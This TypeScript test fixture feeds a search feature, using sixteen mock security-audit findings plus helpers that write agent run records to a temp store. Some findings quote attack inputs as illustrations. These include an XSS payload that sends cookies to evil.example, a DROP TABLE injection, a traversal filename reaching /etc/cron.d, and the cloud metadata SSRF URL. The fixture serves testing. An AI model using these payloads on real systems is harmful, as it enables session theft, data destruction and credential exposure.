/**
 * Fixture agent records for the search tests: a security audit whose agents each report one
 * finding about one module, plus helpers to write runs to a temp store the way the store lays
 * them out (`<root>/<runId>/agents/<phaseId>.<taskId>.<attempt>.json`).
 */
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { SCHEMA_VERSION, type AgentRecord, type AgentStatus, type RunRecord } from '../../src/store/types.js';

/** One audit finding: task id and the agent's output. */
export interface Finding {
  taskId: string;
  prompt: string;
  output: string;
}

const ask = (module: string): string =>
  `You are a security reviewer. Read ${module} and report every finding with file, line, severity and a recommendation.`;

/** Sixteen distinct, realistic agent outputs. */
export const FINDINGS: readonly Finding[] = [
  {
    taskId: 'db-query',
    prompt: ask('src/db/query.ts'),
    output: `## Finding: SQL injection in db/query.ts

Severity: critical. File: src/db/query.ts, line 88.

\`listOrders(req)\` builds its statement by string concatenation: \`"SELECT * FROM orders ORDER BY " + req.query.orderBy\`.
The orderBy parameter is user-supplied and reaches the database driver unescaped, so an attacker can append
\`; DROP TABLE orders\` or a UNION SELECT that reads the users table. This is classic SQL injection.

Recommendation: use parameterized queries for values and an allow-list of column names for ORDER BY;
never interpolate request input into SQL text.`,
  },
  {
    taskId: 'web-render',
    prompt: ask('src/web/render.ts'),
    output: `## Finding: reflected cross-site scripting (XSS) in web/render.ts

Severity: high. File: src/web/render.ts, line 31.

The greeting template assigns \`element.innerHTML = "Hello " + params.get("name")\`. A link with
name=<script>fetch('//evil.example/'+document.cookie)</script> executes in the victim's browser.
Nothing escapes HTML entities before rendering.

Recommendation: set textContent instead of innerHTML, or pass the value through escapeHtml; add a
Content-Security-Policy that forbids inline script.`,
  },
  {
    taskId: 'cache-lru',
    prompt: ask('src/cache/lru.ts'),
    output: `## Finding: race condition in cache/lru.ts

Severity: medium. File: src/cache/lru.ts, lines 40-77.

\`get()\` awaits the loader and then moves the node to the head of the linked list, while \`evict()\`
runs from a timer and unlinks the tail. When two async callers miss on the same key they both load it,
both insert a node, and eviction can unlink a node that get() is still moving: the list ends up with a
dangling pointer and size drifts from the real count. Under load this double-eviction corrupts the LRU order.

Recommendation: deduplicate in-flight loads with a promise map and make list mutation synchronous
(no await between unlink and relink), or guard it with a mutex.`,
  },
  {
    taskId: 'auth-session',
    prompt: ask('src/auth/session.ts'),
    output: `## Finding: session fixation in auth/session.ts

Severity: high. File: src/auth/session.ts, line 52.

After a successful login the server keeps the session identifier the browser arrived with. An attacker
who plants a known sid cookie before the victim logs in then shares the authenticated session.
The cookie is also issued without HttpOnly and SameSite attributes.

Recommendation: regenerate the session id on login and on privilege change; set HttpOnly, Secure and
SameSite=Lax on the session cookie.`,
  },
  {
    taskId: 'crypto-hash',
    prompt: ask('src/crypto/hash.ts'),
    output: `## Finding: weak password hashing in crypto/hash.ts

Severity: critical. File: src/crypto/hash.ts, line 12.

Passwords are stored as unsalted MD5 digests: \`createHash("md5").update(password)\`. MD5 is fast, so a
leaked table falls to a GPU dictionary attack in hours, and identical passwords share a digest.

Recommendation: hash passwords with argon2id (or bcrypt with cost 12) and a per-user salt, and rehash
on next login.`,
  },
  {
    taskId: 'upload-path',
    prompt: ask('src/upload/store.ts'),
    output: `## Finding: path traversal in upload/store.ts

Severity: high. File: src/upload/store.ts, line 23.

The uploaded filename from the multipart header is joined to the upload directory with path.join and
written as is. A filename of ../../../etc/cron.d/job escapes the directory: directory traversal lets
a client overwrite arbitrary files the service can write.

Recommendation: generate server-side names, or resolve the target and check that it stays inside the
upload root before writing.`,
  },
  {
    taskId: 'api-ratelimit',
    prompt: ask('src/api/login.ts'),
    output: `## Finding: no rate limiting on api/login.ts

Severity: medium. File: src/api/login.ts, line 9.

The login endpoint accepts unlimited attempts per account and per IP address. Credential stuffing and
brute force guessing run at full speed; there is no lockout or CAPTCHA either.

Recommendation: add a token bucket rate limit per IP and per account, with exponential delays after
repeated failures.`,
  },
  {
    taskId: 'deps-audit',
    prompt: 'Audit package-lock.json for dependencies with known vulnerabilities and report each with its advisory.',
    output: `## Finding: vulnerable dependency lodash 4.17.15

Severity: high. File: package-lock.json.

lodash 4.17.15 is affected by prototype pollution (CVE-2020-8203) through zipObjectDeep; the app calls
_.zipObjectDeep with request keys in reports/export.ts, so __proto__ keys reach Object.prototype.

Recommendation: upgrade lodash to 4.17.21 or later and run npm audit in CI.`,
  },
  {
    taskId: 'log-secrets',
    prompt: ask('src/logging/http.ts'),
    output: `## Finding: secrets written to logs in logging/http.ts

Severity: high. File: src/logging/http.ts, line 18.

The request logger serializes every header, so the Authorization header with bearer tokens and the
x-api-key header land in plain text in the log files shipped to the log aggregator.

Recommendation: redact Authorization, Cookie and api key headers before logging and rotate keys that
were exposed.`,
  },
  {
    taskId: 'queue-retry',
    prompt: ask('src/jobs/queue.ts'),
    output: `## Finding: unbounded retries in jobs/queue.ts

Severity: medium. File: src/jobs/queue.ts, line 60.

A job that throws is requeued immediately, forever. A poison message keeps a worker busy at 100% CPU
and delays every other job in the queue; there is no backoff and no cap on attempts.

Recommendation: cap attempts, retry with exponential backoff and jitter, and move exhausted jobs to a
dead letter queue for inspection.`,
  },
  {
    taskId: 'config-cors',
    prompt: ask('src/server/cors.ts'),
    output: `## Finding: permissive CORS policy in server/cors.ts

Severity: high. File: src/server/cors.ts, line 7.

The middleware reflects any Origin into Access-Control-Allow-Origin and sets
Access-Control-Allow-Credentials: true, so any website can make authenticated cross-origin requests
with the user's cookies and read the responses.

Recommendation: allow-list the known origins and never combine a wildcard or reflected origin with
credentials.`,
  },
  {
    taskId: 'tls-verify',
    prompt: ask('src/http/client.ts'),
    output: `## Finding: TLS certificate verification disabled in http/client.ts

Severity: critical. File: src/http/client.ts, line 15.

The HTTPS agent is created with rejectUnauthorized: false and the deploy script exports
NODE_TLS_REJECT_UNAUTHORIZED=0. Any man-in-the-middle with a self-signed certificate can read and
change traffic to the payment provider.

Recommendation: remove both, and pin the provider's CA bundle if a private CA is needed.`,
  },
  {
    taskId: 'ws-leak',
    prompt: ask('src/ws/server.ts'),
    output: `## Finding: memory leak in ws/server.ts

Severity: medium. File: src/ws/server.ts, line 101.

Every connection adds message and error listeners to the shared bus, and they are never removed when
the socket closes. Heap snapshots after a day show 400k retained closures; the process is OOM-killed
every few days.

Recommendation: remove the listeners in the close handler (or register them with an AbortSignal that
close aborts).`,
  },
  {
    taskId: 'rpc-decode',
    prompt: ask('src/rpc/decode.ts'),
    output: `## Finding: unsafe deserialization in rpc/decode.ts

Severity: critical. File: src/rpc/decode.ts, line 5.

decodeMessage passes the request payload to eval to "support dates", so any client can run arbitrary
code in the server process by sending a crafted payload.

Recommendation: parse with JSON.parse and a reviver for dates, then validate the shape with a schema.`,
  },
  {
    taskId: 'images-ssrf',
    prompt: ask('src/images/fetch.ts'),
    output: `## Finding: server-side request forgery (SSRF) in images/fetch.ts

Severity: high. File: src/images/fetch.ts, line 27.

The thumbnail service downloads whatever URL the client sends. Pointing it at
http://169.254.169.254/latest/meta-data/ returns the cloud metadata endpoint with instance credentials,
and internal admin services on 10.0.0.0/8 are reachable too.

Recommendation: resolve the host first and refuse private, loopback and link-local addresses; allow
only http(s) on standard ports.`,
  },
  {
    taskId: 'auth-token',
    prompt: ask('src/auth/token.ts'),
    output: `## Finding: timing attack on token comparison in auth/token.ts

Severity: low. File: src/auth/token.ts, line 33.

verifyResetToken compares the submitted token with the stored one using ===, which returns at the first
differing byte; response times leak how much of a guess is right.

Recommendation: compare with crypto.timingSafeEqual on equal-length buffers.`,
  },
];

/** Query → task id of the agent that must rank first. */
export const RELEVANCE: readonly [string, string][] = [
  ['SQL injection', 'db-query'],
  ['cross-site scripting innerHTML', 'web-render'],
  ['race condition eviction', 'cache-lru'],
  ['session fixation', 'auth-session'],
  ['password hashing md5', 'crypto-hash'],
  ['directory traversal', 'upload-path'],
  ['brute force rate limit', 'api-ratelimit'],
  ['prototype pollution lodash', 'deps-audit'],
  ['redact authorization header', 'log-secrets'],
  ['dead letter queue', 'queue-retry'],
  ['cors origin credentials', 'config-cors'],
  ['certificate verification', 'tls-verify'],
  ['listeners leak heap', 'ws-leak'],
  ['eval payload', 'rpc-decode'],
  ['metadata endpoint ssrf', 'images-ssrf'],
  ['timingSafeEqual', 'auth-token'],
  ['lru', 'cache-lru'],
];

/** An AgentRecord with defaults for everything but what the test cares about. */
export function makeRecord(fields: Partial<AgentRecord> & { runId: string; phaseId: string; taskId: string }): AgentRecord {
  const attempt = fields.attempt ?? 1;
  return {
    schemaVersion: SCHEMA_VERSION,
    key: `key-${fields.phaseId}-${fields.taskId}`,
    attempt,
    status: 'succeeded' as AgentStatus,
    agent: 'reviewer',
    runner: 'command',
    prompt: 'Review the code.',
    output: '',
    outputBytes: Buffer.byteLength(fields.output ?? ''),
    truncated: false,
    exitCode: 0,
    signal: null,
    stderrTail: '',
    startedAt: '2025-01-01T00:00:00.000Z',
    endedAt: '2025-01-01T00:00:01.000Z',
    durationMs: 1000,
    ...fields,
  };
}

/** The audit corpus as records of one run and phase. */
export function auditRecords(runId: string, phaseId = 'audit'): AgentRecord[] {
  return FINDINGS.map((f) => makeRecord({ runId, phaseId, taskId: f.taskId, prompt: f.prompt, output: f.output }));
}

/** A fresh temp directory; remove it with `rm(dir, {recursive: true, force: true})`. */
export async function tempDir(prefix = 'fanfold-search-'): Promise<string> {
  return mkdtemp(path.join(tmpdir(), prefix));
}

/** Removes a temp directory. */
export async function removeDir(dir: string): Promise<void> {
  await rm(dir, { recursive: true, force: true });
}

/** A minimal but well-formed run.json for `runId` with the given phases. */
export function makeRunRecord(runId: string, phases: { id: string; title: string }[]): RunRecord {
  const now = '2025-01-01T00:00:00.000Z';
  const counts = { total: 0, succeeded: 0, failed: 0, skipped: 0, running: 0, pending: 0 };
  return {
    schemaVersion: SCHEMA_VERSION,
    runId,
    name: `run ${runId}`,
    status: 'completed',
    cwd: '/tmp',
    createdAt: now,
    startedAt: now,
    endedAt: now,
    elapsedMs: 1000,
    resumes: 0,
    plan: {
      schemaVersion: 1,
      name: `run ${runId}`,
      limits: {
        maxConcurrent: 4,
        maxAgents: 64,
        agentTimeoutMs: 600_000,
        runTimeoutMs: 3_600_000,
        retries: 1,
        retryBackoffMs: 1000,
        maxOutputBytes: 262_144,
        maxContextBytes: 65_536,
      },
      agents: { reviewer: { name: 'reviewer', runner: 'command', command: ['true'], tier: 'read_only' } },
      phases: phases.map((p) => ({ id: p.id, title: p.title, dependsOn: [], onFailure: 'continue', taskRefs: [] })),
      tasks: [],
      criticalPath: { length: 0, refs: [] },
      agentCount: 0,
      warnings: [],
    },
    phases: phases.map((p) => ({ id: p.id, status: 'completed', counts })),
    totals: counts,
    updatedAt: now,
  };
}

/**
 * Writes a run to `<root>/<runId>/`: run.json and one agent file per record, laid out as the
 * store does (`agents/<phaseId>.<taskId>.<attempt>.json`).
 */
export async function writeRun(
  root: string,
  runId: string,
  records: readonly AgentRecord[],
  phases: { id: string; title: string }[] = [{ id: 'audit', title: 'Security audit' }],
): Promise<string> {
  const dir = path.join(root, runId);
  await mkdir(path.join(dir, 'agents'), { recursive: true });
  await writeFile(path.join(dir, 'run.json'), JSON.stringify(makeRunRecord(runId, phases), null, 2));
  for (const r of records) await writeAgent(root, r);
  return dir;
}

/** Writes one agent record file into its run's agents/ folder. */
export async function writeAgent(root: string, record: AgentRecord): Promise<string> {
  const file = path.join(root, record.runId, 'agents', `${record.phaseId}.${record.taskId}.${record.attempt}.json`);
  await mkdir(path.dirname(file), { recursive: true });
  await writeFile(file, JSON.stringify(record, null, 2));
  return file;
}

/**
 * A search page without its snippets: a loaded (packed) index keeps no output text, so its hits
 * have empty snippets from `search()` (`searchStore` reads them from the records).
 */
export function noSnippets<T extends { hits: { snippet: string }[] }>(page: T): T {
  return { ...page, hits: page.hits.map((h) => ({ ...h, snippet: '' })) };
}
